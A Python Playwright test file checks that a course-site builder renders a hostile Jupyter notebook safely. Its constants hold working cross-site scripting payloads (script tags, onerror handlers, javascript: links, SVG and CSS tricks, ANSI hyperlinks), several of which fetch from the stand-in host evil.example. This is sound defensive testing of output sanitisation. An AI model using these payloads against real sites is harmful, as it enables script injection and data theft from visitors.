"""A hostile notebook in a browser: nothing of it runs, and nothing is asked of anybody else."""

from __future__ import annotations

import json
from collections.abc import Iterator
from datetime import UTC, datetime
from hashlib import sha256
from pathlib import Path, PurePosixPath
from typing import Any

import pytest
from playwright.sync_api import Browser, Dialog

from coursewright.notebooks.key import read_inputs
from coursewright.notebooks.passport import Passport
from coursewright.notebooks.store import keep_result
from tests.browser.support.server import SiteServer, serve
from tests.browser.support.visit import OpenPage, Scheme, opening
from tests.site.support.course import DAY, HEAD, build, course_of, write_course, write_host

CASE = Path(__file__).parents[1] / "notebooks/cases/hostile.ipynb"
OWN = "window.__owned=(window.__owned||0)+1;alert(1);fetch('https://evil.example/ran')"
SCRIPT = f"<script>{OWN}</script>"
IMAGE = f'<img src="https://evil.example/pixel.png" onerror="{OWN}">'
LINK = f'<a class="hostile" href="javascript:{OWN}">press</a>'
STYLE = "<style>@import url(https://evil.example/a.css);b{background:url(//evil.example/b)}</style>"
INLINE = '<p style="color:red;background:url(https://evil.example/c)">styled</p>'
SVG = (
    f'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" onload="{OWN}">{SCRIPT}'
    f'<a href="javascript:{OWN}"><path d="M0 0L9 9"/></a>'
    f'<image href="https://evil.example/d.png"/><use href="https://evil.example/e.svg#x"/>'
    f'<set attributeName="onclick" to="{OWN}"/>'
    f'<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="{OWN}"/></foreignObject>'
    f'<path style="fill:url(https://evil.example/f#g)" d="M0 0L9 1"/></svg>'
)
ALL = f'{SCRIPT}{IMAGE}{LINK}{STYLE}{INLINE}{SVG}<iframe srcdoc="{SCRIPT}"></iframe>'
ANSI = f"\x1b]8;;javascript:{OWN}\x1b\\press\x1b]8;;\x1b\\ \x1b[31m{SCRIPT}{IMAGE}\x1b[0m"
WIDGET = "application/vnd.jupyter.widget-view+json"
SHOWN: tuple[dict[str, Any], ...] = (
    {"text/html": ALL},
    {"text/markdown": f"**b** {ALL}\n\n[press](javascript:window.__owned=1)"},
    {"text/latex": f"$x</math>{SCRIPT}{IMAGE}$ {IMAGE}"},
    {"image/svg+xml": SVG},
    {"image/png": f'"><script>{OWN}</script>'},
    {"image/jpeg": "/9j/4AAQ!!"},
    {"application/javascript": OWN},
    {"text/plain": ANSI},
    {WIDGET: {"model_id": "1"}, "text/plain": "IntSlider()", "text/html": ALL},
    {"application/x-unknown": SCRIPT},
)


def notebook() -> dict[str, Any]:
    """Return the hostile case, and a cell with an attack under each kind of output."""
    node: dict[str, Any] = json.loads(CASE.read_text("utf-8"))
    outputs: list[dict[str, Any]] = [
        {"output_type": kind, "data": data, "metadata": {"alt": f'"{IMAGE}'}, "execution_count": 1}
        for data in SHOWN
        for kind in ("display_data", "execute_result")
    ]
    outputs += [
        {"output_type": "stream", "name": name, "text": ANSI + ALL} for name in ("stdout", "stderr")
    ]
    outputs += [{"output_type": "error", "ename": ALL, "evalue": ALL, "traceback": [ANSI, ALL]}]
    node["cells"].append({"cell_type": "markdown", "metadata": {}, "source": f"## {ALL}\n\n{ALL}"})
    node["cells"].append(
        {"cell_type": "code", "metadata": {}, "source": f"print('''{ALL}''')", "outputs": outputs}
    )
    return node


def without_errors(node: dict[str, Any]) -> dict[str, Any]:
    """Return the notebook without what a build refuses: broken figures, unexpected errors."""
    for cell in node["cells"]:
        if isinstance(cell, dict) and isinstance(cell["metadata"], dict):
            cell["metadata"]["tags"] = ["raises-exception"]
            outputs = cell.get("outputs", ())
            cell["outputs"] = [one for one in outputs if not is_broken(one.get("data", {}))]
    return node


def is_broken(data: dict[str, Any]) -> bool:
    """Tell whether an output is a figure that cannot be read."""
    return not data.keys().isdisjoint(("image/png", "image/jpeg")) or "<!ENTITY" in str(data)


def keep(root: Path, demo: str, node: dict[str, Any]) -> None:
    """Keep the hostile notebook as a result of a demo, as a run would have."""
    folder = root / "docs/demos" / demo
    folder.mkdir(parents=True, exist_ok=True)
    (folder / f"{demo}.py").write_text("# %%\n1\n", "utf-8")
    record = next(each for each in course_of(root).schedule.demos if each.id == demo)
    inputs = read_inputs(record, folder, PurePosixPath("docs/demos", demo), lambda _: None)
    assert inputs is not None
    files = {f"{demo}.ipynb": json.dumps(node).encode()}
    passport = Passport(
        version=2,
        slug=demo,
        executed=datetime(2018, 1, 3, tzinfo=UTC),
        device="CPU, 1 core",
        scale="test",
        seeds=(0,),
        cpu_seconds=1.5,
        seconds=2.5,
        megabytes=99,
        gpu_megabytes=0,
        cells=(),
        versions={"python": "3.11.7"},
        key=dict(inputs.key("test")),
        results={name: sha256(data).hexdigest() for name, data in files.items()},
    )
    keep_result(folder, root / ".cache/coursewright", files, passport)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[SiteServer]:
    """The server of a site with the hostile notebook, once as it is and once trusted."""
    demo = "  - {{id: {0}, title: A, claim: B., scale: heavy, trusted: {1}}}\n"
    demos = demo.format("stranger", "no") + demo.format("trusted", "yes")
    session = "sessions:\n  - {id: s01, kind: lecture, title: One, date: 2018-01-17}\n"
    root = write_course(tmp_path_factory.mktemp("hostile"), f"{HEAD}demos:\n{demos}{session}")
    write_host(root)
    for name in ("stranger", "trusted"):
        keep(root, name, notebook())
    refused = build(root, DAY)
    assert refused.returncode == 1
    assert "a figure cannot be shown: its data is no base64" in refused.stdout + refused.stderr
    assert not (root / "site").exists()
    for name in ("stranger", "trusted"):
        keep(root, name, without_errors(notebook()))
    done = build(root, DAY)
    assert done.returncode == 0, done.stdout + done.stderr
    with serve(root / "site") as server:
        yield server


@pytest.fixture
def hostile_at(browser: Browser, hostile: SiteServer) -> Iterator[OpenPage]:
    """A function that opens a page of that site."""
    with opening(browser, hostile) as open_page:
        yield open_page


@pytest.mark.parametrize(("scheme", "width"), [("light", 1280), ("dark", 360)])
@pytest.mark.parametrize("demo", ["stranger", "trusted"])
def test_nothing_of_a_hostile_notebook_runs_or_calls_out(
    hostile_at: OpenPage, demo: str, scheme: Scheme, width: int
) -> None:
    visit = hostile_at(f"/demos/{demo}/", scheme, width)
    page = visit.page
    dialogs: list[str] = []

    def dismiss(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", dismiss)
    page.reload()
    visit.settle()
    assert "press" in page.locator("article").inner_text()
    for link in page.locator("article a:has-text('press')").all():
        link.click(force=True)
    page.locator("article :is(p, b, svg, img)").evaluate_all(
        "all => all.forEach(one => ['click', 'load', 'error', 'mouseover', 'focus'].forEach("
        "kind => one.dispatchEvent(new Event(kind))))"
    )
    visit.settle()
    assert page.evaluate("window.__owned") is None
    assert dialogs == []
    assert visit.third_party == []


def test_only_the_trusted_notebook_keeps_its_looks(hostile_at: OpenPage) -> None:
    styled = {
        demo: hostile_at(f"/demos/{demo}/").page.locator("article p[style*=red]").count()
        for demo in ("stranger", "trusted")
    }
    assert styled["stranger"] == 0
    assert styled["trusted"] > 0
